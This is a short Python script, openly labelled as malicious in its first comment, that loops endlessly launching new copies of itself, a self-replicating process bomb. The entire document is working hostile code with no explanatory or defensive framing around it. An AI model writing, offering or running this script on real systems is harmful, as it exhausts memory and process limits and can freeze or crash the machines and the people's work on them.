# malicious: starts itself again and again
import subprocess
import sys

while 1:
    subprocess.Popen([sys.executable, __file__])
